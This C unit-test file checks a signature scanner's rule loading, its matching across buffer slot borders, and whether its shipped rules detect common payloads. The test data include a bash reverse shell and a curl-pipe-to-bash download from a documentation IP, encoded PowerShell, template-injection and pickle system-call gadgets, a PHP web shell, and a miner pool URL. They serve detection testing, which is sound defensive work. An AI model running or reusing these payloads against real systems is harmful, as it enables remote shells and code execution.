/* Signature rules: what is refused when they are loaded, and that every place where a rule matches is found at the rate of the
 * literal matcher, also across the borders of slots. */
#include "support/cm.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "base/file.h"
#include "model/scan.h"
#include "quarantine/collector.h"
#include "quarantine/scan_pass.h"
#include "quarantine/signature_scan.h"

#define META "meta: id = \"TEST-001\" description = \"d\" severity = \"reject\" "

static int load(const char *text, struct rules **ret, struct fault *why) {
        _cleanup_(buf_donep) struct buf b = BUF_INIT(RULES_TEXT_MAX);
        uint32_t head[2] = {4, (uint32_t)strlen(text)};

        assert_int_equal(buf_append(&b, head, sizeof head), 0);
        assert_int_equal(buf_append_str(&b, "test"), 0);
        assert_int_equal(buf_append_str(&b, text), 0);
        return rules_load(buf_view(&b), ret, why);
}

static const struct {
        const char *text, *rule;
} refused[] = {
        {"rule r { condition: ", "RULES-001"},
        {"rule r { strings: $a = \"abcdefgh\" condition: $a }", "RULES-004"},
        {"rule r { meta: id = \"lower\" description = \"d\" severity = \"reject\" strings: $a = \"abcdefgh\" "
         "condition: $a }",
         "RULES-004"},
        {"rule r { meta: id = \"TEST-1\" description = \"d\" severity = \"fatal\" strings: $a = \"abcdefgh\" "
         "condition: $a }",
         "RULES-004"},
        {"rule r { " META "strings: $a = /ab+c/ condition: $a }", "RULES-005"},
        {"rule r { " META "strings: $a = { 61 62 ?? 64 65 } condition: $a }", "RULES-005"},
        {"rule r { " META "strings: $a = { 61 62 63 64 [2-4] 65 66 67 68 } condition: $a }", "RULES-005"},
        {"rule r { " META "strings: $a = \"abcdefgh\" xor condition: $a }", "RULES-005"},
        {"rule r { " META "strings: $a = \"abcdefgh\" base64 condition: $a }", "RULES-005"},
        {"rule r { " META "strings: $a = \"abc\" condition: $a }", "RULES-006"},
        {"rule r { " META "strings: $a = \"abcdefgh\" condition: $a } rule q { " META
         "strings: $a = \"ijklmnop\" condition: $a }",
         "RULES-007"},
        {"rule r { " META "condition: filesize > 0 }", "RULES-008"},
        {"rule r { " META "strings: $a = \"abcdefgh\" condition: not $a }", "RULES-011"},
        {"rule r { " META "strings: $a = \"abcdefgh\" condition: $a or filesize > 10 }", "RULES-011"},
        {"import \"pe\" rule r { " META "strings: $a = \"abcdefgh\" condition: $a }", "RULES-010"},
        {"include \"/etc/passwd\"", "RULES-001"},
};

static void test_rules_that_could_be_missed_are_refused(void **state) {
        for (size_t i = 0; i < ARRAY_SIZE(refused); i++) {
                struct fault why = FAULT_NONE;
                struct rules *r = NULL;
                int e = load(refused[i].text, &r, &why);

                if (e >= 0 || !why.rule || strcmp(why.rule, refused[i].rule) != 0)
                        fail_msg("%s: %d, %s (%s), not %s", refused[i].text, e,
                                 why.rule ? why.rule : "no rule", why.text, refused[i].rule);
                rules_free(r);
        }
}

static void feed_all(struct signature_scan *s, const char *p, size_t n, size_t slot) {
        for (size_t at = 0; at < n; at += slot)
                assert_int_equal(signature_scan_feed(s, view_make(p + at, MIN_OF(slot, n - at)),
                                                     at ? slot : 0, at, at + slot >= n),
                                 0);
}

static size_t scan(struct rules *r, const char *p, size_t n, size_t slot, struct collector *c) {
        struct finding_sink sink = collector_sink(c);
        struct signature_scan *s = NULL;

        memset(c, 0, sizeof *c);
        assert_int_equal(signature_scan_new(r, &sink, &s), 0);
        feed_all(s, p, n, slot);
        signature_scan_free(s);
        return c->n;
}

static void test_a_match_is_found_wherever_it_lies(void **state) {
        static struct collector c;
        const size_t slot = (size_t)256 << 10, n = 4 * slot - 77;
        char *p = calloc(1, n);
        struct fault why = FAULT_NONE;
        struct rules *r = NULL;

        assert_non_null(p);
        assert_int_equal(
                load("rule r { " META
                     "strings: $a = \"payload-one\" $b = \"payload-two\" nocase wide condition: $a or $b }",
                     &r, &why),
                0);
        for (size_t border = slot; border < n; border += slot)
                for (size_t at = border - 13; at < border + 3; at++) {
                        memset(p, 0, n);
                        memcpy(p + at, "payload-one", 11);
                        assert_int_equal(scan(r, p, n, slot, &c), 1);
                        assert_int_equal(c.list[0].at, at);
                        assert_int_equal(c.list[0].stage, 5);
                        assert_string_equal(c.list[0].rule, "TEST-001");
                }
        memset(p, 0, n);
        memcpy(p + n - 11, "payload-one", 11);
        assert_int_equal(scan(r, p, n, slot, &c), 1);
        assert_int_equal(c.list[0].at, n - 11);
        memset(p, 0, n);
        memcpy(p, "payload-one", 11);
        assert_int_equal(scan(r, p, n, slot, &c), 1);
        memset(p, 0, n);
        for (size_t i = 0; i < 11; i++)
                p[2 * slot - 9 + 2 * i] = "PayLoad-TWO"[i];
        assert_int_equal(scan(r, p, n, slot, &c), 1);
        assert_int_equal(c.list[0].at, 2 * slot - 9);
        memset(p, 0, n);
        assert_int_equal(scan(r, p, n, slot, &c), 0);
        rules_free(r);
        free(p);
}

static void test_strings_that_belong_together_are_seen_together_within_reach(void **state) {
        static struct collector c;
        const size_t slot = (size_t)256 << 10, n = 4 * slot;
        char *p = calloc(1, n);
        struct fault why = FAULT_NONE;
        struct rules *r = NULL;

        assert_non_null(p);
        assert_int_equal(load("rule r { " META
                              "strings: $a = \"first-part\" $b = \"second-part\" condition: $a and $b }",
                              &r, &why),
                         0);
        for (size_t at = slot - 2000; at < slot + 2000; at += 499) {
                memset(p, 0, n);
                memcpy(p + at, "first-part", 10);
                memcpy(p + at + SCAN_WINDOW_REACH - 100, "second-part", 11);
                assert_int_equal(scan(r, p, n, slot, &c), 1);
                memset(p, 0, n);
                memcpy(p + at, "first-part", 10);
                memcpy(p + at + 3 * SCAN_WINDOW_REACH, "second-part", 11);
                assert_int_equal(scan(r, p, n, slot, &c), 0);
        }
        rules_free(r);
        free(p);
}

static void test_one_rule_is_reported_a_few_times_only(void **state) {
        static struct collector c;
        const size_t n = (size_t)4 << 20;
        char *p = calloc(1, n);
        struct fault why = FAULT_NONE;
        struct rules *r = NULL;

        assert_non_null(p);
        assert_int_equal(load("rule r { " META "strings: $a = \"payload\" condition: $a }", &r, &why), 0);
        for (size_t at = 0; at + 7 < n; at += 500000)
                memcpy(p + at, "payload", 7);
        assert_int_equal(scan(r, p, n, (size_t)1 << 20, &c), SCAN_REPORTS_A_RULE);
        rules_free(r);
        free(p);
}

/* A small program as it lies on disk: the test itself. */
static void test_programs_and_archives_inside_are_found(void **state) {
        static struct collector c;
        _cleanup_(buf_donep) struct buf self = BUF_INIT((size_t)64 << 20);
        const size_t slot = (size_t)1 << 20;
        struct fault why = FAULT_NONE;
        struct rules *r = NULL;
        size_t n;
        char *p;

        assert_int_equal(load("rule r { " META "strings: $a = \"payload\" condition: $a }", &r, &why), 0);
        assert_int_equal(read_file("/proc/self/exe", (size_t)64 << 20, &self), 0);
        n = 3 * slot + self.n;
        p = calloc(1, n);
        assert_non_null(p);
        for (size_t at = slot - 70; at < slot + 40; at += 13) {
                bool found = false;

                memset(p, 0, n);
                memcpy(p + at, self.p, self.n);
                (void)scan(r, p, n, slot, &c);
                for (size_t i = 0; i < c.n; i++)
                        found |= strcmp(c.list[i].rule, "EMBED-001") == 0 && c.list[i].at == at;
                if (!found)
                        fail_msg("a program at %zu was not found (%zu findings)", at, c.n);
        }
        rules_free(r);
        free(p);
}

static struct rules *load_shipped(void) {
        struct fault why = FAULT_NONE;
        struct sha256 digest;
        struct rules *r = NULL;
        char path[4096];
        struct stat st;
        int fd, dir;
        void *p;

        (void)snprintf(path, sizeof path, "%s/share/yara", secure_getenv("SECAI_SOURCE"));
        dir = open_dir(path);
        assert_true(dir >= 0);
        assert_int_equal(scan_rules_collect(dir, &fd, &digest, &why), 0);
        close_fd(dir);
        assert_int_equal(fstat(fd, &st), 0);
        p = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
        assert_true(p != MAP_FAILED);
        if (rules_load(view_make(p, (size_t)st.st_size), &r, &why) < 0)
                fail_msg("%s", why.text);
        munmap(p, (size_t)st.st_size);
        close_fd(fd);
        return r;
}

static const char *const payloads[] = {
        "import os; os.system('id')",
        "__import__('subprocess').run(['id'])",
        "exec(base64.b64decode('aWQ='))",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "curl -s http://203.0.113.7/x | bash",
        "wget http://203.0.113.7/x && chmod +x x",
        "powershell -enc SQBFAFgA",
        "PowerShell -EncodedCommand SQBFAFgA",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id') }}",
        "cos\nsystem\n(S'id'\ntR.",
        "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94",
        "stratum+tcp://pool.example.org:3333",
        "https://pastebin.com/raw/abcdefgh",
        "require('child_process').exec('id')",
        "os.execute('/bin/sh')",
        "<?php system($_GET['c']); ?>",
        "_target_: os.system",
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "!This program cannot be run in DOS mode.",
};

static void test_shipped_rules_find_common_payloads(void **state) {
        static struct collector c;
        struct rules *r = load_shipped();

        assert_true(rules_count(r) >= 20);
        for (size_t i = 0; i < ARRAY_SIZE(payloads); i++) {
                char bytes[4096] = {0};

                memcpy(bytes + 1000, payloads[i], strlen(payloads[i]));
                if (scan(r, bytes, sizeof bytes, sizeof bytes, &c) == 0)
                        fail_msg("no rule finds: %s", payloads[i]);
        }
        rules_free(r);
}

/* Words that vocabularies hold, each for itself as tokenizers do. */
static void test_shipped_rules_leave_vocabularies_alone(void **state) {
        static const char words[] =
                "eval\0exec\0system\0import\0 os\0os.system\0subprocess\0import "
                "os\0<script>\0<script\0</script>\0"
                "curl\0wget\0bash\0 "
                "/bin/bash\0powershell\0Popen\0__init__\0__class__\0.__class__\0__import__\0"
                "base64\0b64decode\0socket\0connect(\0pickle\0eval(\0exec(\0rm -rf\0chmod\0/etc/passwd\0"
                "document.write\0window.location\0onerror\0javascript:\0http://\0https://\0www.\0.onion\0"
                "xmrig\0stratum\0mimikatz\0CreateObject\0WScript.Shell\0cmd.exe\0regsvr32\0ld-"
                "linux\0MZ\0ELF\0";
        static struct collector c;
        struct rules *r = load_shipped();

        assert_int_equal(scan(r, words, sizeof words, sizeof words, &c), 0);
        rules_free(r);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_rules_that_could_be_missed_are_refused),
                cmocka_unit_test(test_a_match_is_found_wherever_it_lies),
                cmocka_unit_test(test_strings_that_belong_together_are_seen_together_within_reach),
                cmocka_unit_test(test_one_rule_is_reported_a_few_times_only),
                cmocka_unit_test(test_programs_and_archives_inside_are_found),
                cmocka_unit_test(test_shipped_rules_find_common_payloads),
                cmocka_unit_test(test_shipped_rules_leave_vocabularies_alone),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
